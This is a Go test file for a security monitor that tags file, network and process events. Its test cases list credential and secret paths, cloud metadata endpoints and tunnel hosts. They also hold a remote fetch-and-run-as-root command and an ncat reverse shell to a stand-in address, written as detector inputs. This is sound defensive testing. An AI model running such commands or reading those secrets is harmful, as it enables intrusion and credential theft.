package detect

import (
	"slices"
	"strings"
	"testing"

	"holdfast.dev/holdfast/internal/floor/event"
)

var here = Place{Home: "/home/you", Workspace: "/home/you/project"}

func TestMarks(t *testing.T) {
	if len(markNames) > 64 || len(traitNames) > 64 || traitOf("memory-file") != inMemory || traitOf("supervisor") != supervisor || markOf("long-label") != longLabel || traitOf("shell") != shell || markOf("repository") != repository {
		t.Fatal("the words of the marks do not stand in the order of their bits")
	}
	long := "/w" + strings.Repeat("/a", 3000) + "/.ssh/id_rsa"
	for _, tt := range []struct {
		action, object, resolved, to string
		want                         string
	}{
		{event.FileOpen, "/home/you/project/src/main.go", "", "", ""},
		{event.FileOpen, "/home/you/project/build/main.js", "", "", "generated"},
		{event.FileOpen, "/usr/lib/x86_64-linux-gnu/libc.so.6", "", "", ""},
		{event.FileOpen, "/home/you/.ssh/id_ed25519", "", "", "credential key"},
		{event.FileOpen, "/home/you/.ssh/id_ed25519.pub", "", "", "credential"},
		{event.FileOpen, "/home/you/.ssh/config", "", "", "credential usual"},
		{event.FileLookup, "/home/you/.aws/models", "", "", "credential usual"},
		{event.FileLookup, "/home/you/.aws/cli/alias", "", "", "credential usual"},
		{event.FileLookup, "/home/you/.aws/cli/cache/x.json", "", "", "credential"},
		{event.FileOpen, "/home/bob/.ssh/config", "", "", "credential usual other-home"},
		{event.FileOpen, "/home/bob/x", "", "", "other-home"},
		{event.FileOpen, "/home/bob", "", "", ""},
		{event.FileOpen, "/home/yours/x", "", "", "other-home"},
		{event.FileOpen, "/root/.bashrc", "", "", "other-home startup"},
		{event.FileOpen, "/home/./bob//x", "", "", "other-home"},
		{event.FileOpen, "/home/you/../bob/x", "", "", "other-home"},
		{event.FileOpen, "../../../../home/bob/x", "", "", "other-home traversal"},
		{event.FileOpen, "x", "/home/bob/x", "", "other-home"},
		{event.FileOpen, "/etc/shadow", "", "", "system-secret"},
		{event.FileOpen, "/home/you/project/etc/shadow", "", "", ""},
		{event.FileOpen, "/home/you/project/.env", "", "", "secret-file"},
		{event.FileOpen, "/home/you/project/.env.local", "", "", "secret-file"},
		{event.FileOpen, "/home/you/project/.env.example", "", "", ""},
		{event.FileOpen, "/home/you/project/.envrc", "", "", "startup"},
		{event.FileOpen, "/proc/self/root/etc/passwd", "", "", "alias"},
		{event.FileOpen, "/proc/12/root/etc/passwd", "", "", "alias"},
		{event.FileOpen, "/proc/self/fd/7/../x", "", "", "alias descriptor"},
		{event.FileOpen, "/proc/self/fd/7", "", "", "descriptor"},
		{event.FileOpen, "/proc/self/fd/7/etc/x", "", "", "alias"},
		{event.FileOpen, "/dev/fd/7/x", "", "", "alias"},
		{event.FileOpen, "/dev/fd/7", "", "", "descriptor"},
		{event.FileOpen, "/dev/null", "", "", ""},
		{event.FileOpen, "/proc/self/maps", "", "", ""},
		{event.FileOpen, "/proc/12/task/13/environ", "", "", "other-process"},
		{event.FileOpen, "/proc/sys/kernel/core_pattern", "", "", "kernel-callback"},
		{event.FileOpen, "/sys/fs/cgroup/x/release_agent", "", "", "kernel-callback"},
		{event.FileOpen, "/a/%2e%2e/b", "", "", "encoded"},
		{event.FileOpen, "/a/..\xc0\xafb", "", "", "encoded"},
		{event.FileOpen, "/a/100%/b", "", "", ""},
		{event.FileOpen, "/a/.config/google-chrome/Default/Login Data", "", "", "browser-store credential"},
		{event.FileOpen, "", "", "", ""},
		{event.FileOpen, "/", "", "", ""},
		{event.FileOpen, "..", "", "", ""},
		{event.FileOpen, long, "", "", "credential key"},
		{event.FileUnlink, "x", "/home/you/project/.git/HEAD", "", "repository"},
		{event.FileSymlink, "/home/you/project/a", "", "../../../bob/.aws/credentials", "to:credential to:usual"},
		{event.FileSymlink, "a", "", "../../../../home/bob/k", "to:other-home to:traversal"},
		{event.SockConnect, "169.254.169.254:80", "", "", "literal metadata"},
		{event.SockConnect, "[fd00:ec2::254]:80", "", "", "literal metadata"},
		{event.SockConnect, "[::ffff:169.254.169.254]:80", "", "", "literal metadata"},
		{event.SockConnect, "127.0.0.1:80", "", "", "literal loopback"},
		{event.SockConnect, "198.18.3.4:443", "", "", "literal loopback"},
		{event.SockConnect, "10.1.2.3:22", "", "", "literal private"},
		{event.SockConnect, "unix:/run/docker.sock", "", "", "loopback host-socket runtime-socket"},
		{event.SockConnect, "unix:x", "unix:/run/docker.sock", "", "loopback host-socket runtime-socket"},
		{event.SockConnect, "unix:@/tmp/.X11-unix/X0", "", "", "generated host-socket loopback temporary"},
		{event.NetQuery, "a.b.ngrok.io", "", "", "tunnel"},
		{event.NetQuery, "ngrok.io.example.org", "", "", ""},
		{event.NetConnect, "metadata.google.internal:80", "", "", "metadata"},
		{event.NetQuery, strings.Repeat("a", 50) + ".example", "", "", "long-label"},
		{event.NetQuery, "", "", "", ""},
	} {
		e := event.Event{Action: tt.action, Object: tt.object, Resolved: tt.resolved}
		if tt.to != "" {
			e.Detail = map[string]string{"to": tt.to}
		}
		got := here.Marks(e)
		slices.Sort(got)
		want := strings.Fields(tt.want)
		slices.Sort(want)
		if !slices.Equal(got, want) {
			t.Errorf("%s %.60q %q: got %v, want %v", tt.action, tt.object, tt.to, got, want)
		}
	}
}

// A workspace below a directory of somebody else is no home of theirs.
func TestMarksInASharedWorkspace(t *testing.T) {
	p := Place{Home: "/home/you", Workspace: "/home/team/project"}
	for path, want := range map[string]mark{
		"/home/team/project/src/x":       0,
		"/home/team/project":             0,
		"/home/team/project/../x":        otherHome,
		"/home/team/projects/x":          otherHome,
		"/home/team/project/.ssh/id_rsa": credential | key,
	} {
		if got := p.path(path) & (otherHome | credential | key); got != want {
			t.Errorf("%s: %b, want %b", path, got, want)
		}
	}
}

func TestProgramMarks(t *testing.T) {
	for _, tt := range []struct {
		executable string
		argv       []string
		want       string
	}{
		{"/usr/bin/python3.12", []string{"python3", "x.py"}, "client interpreter"},
		{"/usr/bin/python3.12", []string{"python3", "-c", "1"}, "client inline-code interpreter"},
		{"/usr/bin/python3.12", []string{"python3", "-m", "pip", "install", "x"}, "client installs interpreter packager"},
		{"/usr/bin/dash", []string{"sh", "-c", "ls"}, "inline-code shell"},
		{"/usr/bin/dash", []string{"-sh"}, "shell"},
		{"/usr/bin/bash", []string{"bash", "-lc", "wget -qO- https://x | sudo bash -s"}, "elevates inline-code piped shell"},
		{"/usr/bin/bash", []string{"bash", "-c", "curl x | jq . | tee y"}, "inline-code shell"},
		{"/usr/bin/ncat", []string{"ncat", "-e", "/bin/sh", "1.2.3.4", "9"}, "fetcher network-shell"},
		{"/home/you/x", []string{"chromium"}, "replaceable"},
		{"/home/you/chromium", []string{"chromium"}, "replaceable"},
		{"/home/you/.cache/ms-playwright/chromium-1/chrome", []string{"chrome"}, "browser replaceable"},
		{"/usr/bin/node", []string{"npm", "ci"}, "client installs interpreter packager"},
		{"/usr/bin/pkill", []string{"pkill", "holdfast"}, "killer supervisor"},
	} {
		e := event.Event{Action: event.ProcExec, Process: event.Process{Executable: tt.executable, Argv: tt.argv}}
		got := here.Marks(e)
		slices.Sort(got)
		if !slices.Equal(got, strings.Fields(tt.want)) {
			t.Errorf("%s %q: got %v, want %s", tt.executable, tt.argv, got, tt.want)
		}
	}
}

func FuzzMarks(f *testing.F) {
	for _, s := range []string{"/home/bob/.ssh/id_rsa", "../../..", "/proc/1/task/2/mem", "//", "unix:@\x00", "[::1]:80", "[", ":", "/home//", "/proc//root/x", "%2e%2e/", "a.", "/home/a/../../b"} {
		f.Add(s, s)
	}
	f.Fuzz(func(t *testing.T, object, to string) {
		for _, action := range []string{event.FileSymlink, event.SockConnect, event.NetQuery, event.ProcExec} {
			here.Marks(event.Event{Action: action, Object: object, Resolved: to, Detail: map[string]string{"to": to}, Process: event.Process{Argv: []string{object, to, object}}})
		}
	})
}

func BenchmarkMarks(b *testing.B) {
	for name, e := range map[string]event.Event{
		"ordinary": {Action: event.FileWrite, Object: "/home/you/project/node_modules/@babel/core/lib/config/files/index.js"},
		"short":    {Action: event.FileOpen, Object: "/usr/lib/x86_64-linux-gnu/libc.so.6"},
		"host":     {Action: event.NetConnect, Object: "packages.example.org:443"},
		"address":  {Action: event.SockConnect, Object: "198.18.0.7:443"},
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				here.marks(&e)
			}
		})
	}
}

func BenchmarkObserve(b *testing.B) {
	for name, e := range map[string]event.Event{
		"write":  {Action: event.FileWrite, Verdict: event.Allowed, Object: "/home/you/project/node_modules/@babel/core/lib/config/files/index.js"},
		"open":   {Action: event.FileOpen, Verdict: event.Allowed, Object: "/usr/lib/x86_64-linux-gnu/libc.so.6"},
		"lookup": {Action: event.FileLookup, Verdict: event.Denied, Object: "/etc/ld.so.preload"},
		"exec":   {Action: event.ProcExec, Verdict: event.Allowed, Object: "cc", Process: event.Process{Exec: 5, Executable: "/usr/bin/cc", Argv: []string{"cc", "-O2", "-c", "main.c"}}},
		"unlink": {Action: event.FileUnlink, Verdict: event.Allowed, Object: "/home/you/project/target/debug/x.o"},
		"query":  {Action: event.NetConnect, Verdict: event.Allowed, Object: "packages.example.org:443"},
	} {
		b.Run(name, func(b *testing.B) {
			eng, err := New(Config{Place: here})
			if err != nil {
				b.Fatal(err)
			}
			b.ReportAllocs()
			for b.Loop() {
				eng.Observe(e)
			}
		})
	}
}

func BenchmarkNew(b *testing.B) {
	for b.Loop() {
		if _, err := New(Config{}); err != nil {
			b.Fatal(err)
		}
	}
}

// TestMarksBelowPassingNames has a workspace in a place of files that come and go.
func TestMarksBelowPassingNames(t *testing.T) {
	place := Place{Home: "/tmp/x/home", Workspace: "/home/you/build/app"}
	for path, want := range map[string]mark{
		"/home/you/build/app/.mcp.json": guardrail, "/home/you/build/app/target/x": generated, "/home/you/build/app2/x": generated | sibling,
		"/tmp/x/home/.bashrc": startup, "/tmp/x/y": temporary | generated, "/home/you/build/app": 0,
	} {
		if got := place.path(path) &^ otherHome; got != want {
			t.Errorf("%s: %v, want %v", path, got.names(nil, ""), want.names(nil, ""))
		}
	}
}
